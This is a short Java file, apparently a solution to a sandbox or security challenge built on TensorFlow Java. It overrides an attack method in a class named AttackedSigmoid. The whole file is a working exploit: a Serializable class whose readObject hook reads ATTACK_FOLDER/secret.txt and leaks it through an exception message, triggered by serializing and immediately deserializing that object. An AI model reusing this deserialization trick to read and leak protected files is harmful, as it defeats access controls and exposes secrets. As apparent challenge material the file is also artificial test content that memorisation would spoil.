import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.Serializable;
import java.nio.file.Files;
import java.nio.file.Path;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    private static final class Hook implements Serializable {
        private void readObject(ObjectInputStream in) throws IOException {
            throw new IllegalStateException(Files.readString(Path.of("ATTACK_FOLDER/secret.txt")));
        }
    }

    @Override
    protected void attack(Ops tf) throws Throwable {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new ObjectOutputStream(out).writeObject(new Hook());
        new ObjectInputStream(new ByteArrayInputStream(out.toByteArray())).readObject();
    }
}
